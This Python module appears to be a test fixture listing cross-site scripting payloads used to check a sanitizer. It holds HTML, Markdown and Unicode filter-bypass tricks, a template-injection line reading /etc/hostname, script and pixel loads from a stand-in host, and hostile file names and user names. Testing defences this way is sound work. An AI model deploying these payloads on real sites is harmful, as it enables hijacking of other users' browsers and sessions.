"""What a stranger may write in the hope that it acts in someone else's browser.

Each line has a number. One that runs puts it into the page's list `__ran` (`watch` makes that list), so that a test
can say which; one that loads something asks `elsewhere.example` for it.
"""

from __future__ import annotations

from typing import Final

ELSEWHERE: Final = "elsewhere.example"
WATCH: Final = "window === top && (window.__ran = []); window.alert = () => top.__ran.push('alert');"
"""To be run in a page before anything else."""

_HTML: Final = (
    r"""
<script>RUN</script>
<ScRiPt >RUN</sCrIpT
<script/src=data:,RUN></script>
<script src="https://elsewhere.example/x.js"></script>
<<script>RUN//<</script>
<scr<script>ipt>RUN</scr</script>ipt>
<script type=module>RUN</script>
<img src=x onerror=RUN>
<img src=x oNeRrOr=RUN>
<img/src=x/onerror=RUN>
<img src=x onerror="&#116;op.__ran.push(NUMBER)">
<IMG """
    + '"""'
    + r"""><SCRIPT>RUN</SCRIPT>">
<img src="https://elsewhere.example/pixel.png" alt="">
<img srcset="https://elsewhere.example/pixel.png 1x" alt="">
<image src=x onerror=RUN>
<video><source onerror=RUN></video>
<video src=x onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<body onload=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>press</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=RUN />#x"></svg>
<svg></p><style><g title="</style><img src=x onerror=RUN>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<math href="javascript:RUN">press</math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<textarea></textarea><img src=x onerror=RUN></textarea>
</textarea><script>RUN</script>
</script><script>RUN</script>
</title><script>RUN</script>
</style><script>RUN</script>
</pre></code></div><script>RUN</script>
<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
<template><script>RUN</script></template>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe src="https://elsewhere.example/"></iframe>
<frameset onload=RUN>
<object data="javascript:RUN"></object>
<embed src="javascript:RUN">
<details open ontoggle=RUN><summary>press</summary></details>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<marquee onstart=RUN>news</marquee>
<div style="background:url(https://elsewhere.example/x)">over all</div>
<div style="width:expression(RUN)" onmouseover=RUN>over all</div>
<style>@import "https://elsewhere.example/x.css";</style>
<style>*{animation:a 1s}@keyframes a{}</style><p onanimationstart=RUN>move</p>
<link rel=stylesheet href="https://elsewhere.example/x.css">
<meta http-equiv="refresh" content="0;url=javascript:RUN">
<meta http-equiv="refresh" content="0;url=https://elsewhere.example/">
<base href="https://elsewhere.example/">
<form action="javascript:RUN"><button>press</button></form>
<form id=f action=/api/contents></form><button form=f formaction="javascript:RUN">press</button>
<a href="javascript:RUN">press</a>
<a href=" &#14; javascript:RUN">press</a>
<a href="jAvAsCrIpT:RUN">press</a>
<a href="java&#x09;script:RUN">press</a>
<a href="java&#x0A;script:RUN">press</a>
<a href="javascript&colon;RUN">press</a>
<a href="&#106;&#97;vascript:RUN">press</a>
<a href="data:text/html,<script>RUN</script>">press</a>
<a href="vbscript:RUN">press</a>
<a href="https://elsewhere.example/" ping="https://elsewhere.example/ping" onclick=RUN>press</a>
<p id=q1-mark class="score tabbable level" data-marks=12 onpointerenter=RUN>marks</p>
<!-- --!><img src=x onerror=RUN> -->
<!--><script>RUN</script>-->
<![CDATA[<script>RUN</script>]]>
<?xml version="1.0"?><script>RUN</script>
<p onclick=RUN tabindex=0 autofocus onfocus=RUN>press</p>
{{ ''.__class__ }}{% include "/etc/hostname" %}<img src=x onerror=RUN>
%}</script><script>RUN</script>
"""
)
_MARKDOWN: Final = r"""
[press](javascript:RUN)
[press](<javascript:RUN>)
[press](  JaVaScRiPt:RUN "title")
[press](java&#10;script:RUN)
[press](data:text/html;base64,PHNjcmlwdD50b3AuX19yYW4ucHVzaCgxKTwvc2NyaXB0Pg==)
[press][link-NUMBER] [link-NUMBER]: javascript:RUN
<javascript:RUN>
![picture](https://elsewhere.example/pixel.png)
![picture](javascript:RUN)
![a](x"onerror="RUN)
![a](x'onerror='RUN)
[a](https://example.org "onmouseover=RUN")
`<img src=x onerror=RUN>`
``` <img src=x onerror=RUN>
~~~"><img src=x onerror=RUN>
$\href{javascript:RUN}{press}$
$$<img src=x onerror=RUN>$$
\\(\unicode{<img src=x onerror=RUN>}\\)
$\class{x" onmouseover="RUN}{press}$
\begin{x}<img src=x onerror=RUN>\end{x}
| a | b | <img src=x onerror=RUN> |
"""
_ODD: Final = [
    "<scr\u0000ipt>RUN</script>",
    "<img src=x \u0000onerror=RUN>",
    "a\u2028\u2028<script>RUN</script>",
    "\r\r<img src=x onerror=RUN>\r",
    "\u202egnp.<img src=x onerror=RUN>",
    "\ufeff<script>RUN</script>",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e<img src=x onerror=RUN>",
    "<img src=x\u000conerror=RUN>",
    '"><img src=x onerror=RUN>',
    "'><img src=x onerror=RUN>",
    "';RUN;'",
    '";RUN;"',
    "\\';RUN;//",
    "`${RUN}`",
]


def numbered(lines: list[str], first: int = 0) -> list[str]:
    """Return lines that each report their number when they run."""
    return [
        line.replace("RUN", f"top.__ran.push({number})").replace("NUMBER", str(number))
        for number, line in enumerate(lines, first)
    ]


INJECTIONS: Final = numbered([*_HTML.strip().split("\n"), *_MARKDOWN.strip().split("\n"), *_ODD])

FILE_NAMES: Final = [
    name.replace("RUN", "top.__ran.push('file')")
    for name in ("<img src=x onerror=RUN>.txt", '"><svg onload=RUN>.html', "javascript:RUN.md", "';RUN;'.py")
]
PEOPLE: Final = [
    (f"mallory-{number}", first.replace("RUN", "top.__ran.push('name')"), last.replace("RUN", "top.__ran.push('name')"))
    for number, (first, last) in enumerate(
        [
            ("<script>RUN</script>", "<img src=x onerror=RUN>"),
            ('"><svg onload=RUN>', "</a><a href='javascript:RUN'>press</a>"),
            ('";RUN;"', "</script><script>RUN</script>"),
            ("&lt;img src=x onerror=RUN&gt;", "{{ 7*7 }}{% raw %}"),
        ]
    )
]
HOSTILE_IDS: Final = [
    "<img src=x onerror=top.__ran.push('id')>",
    "\"><svg onload=top.__ran.push('id')>",
    "\";top.__ran.push('id');\"",
]
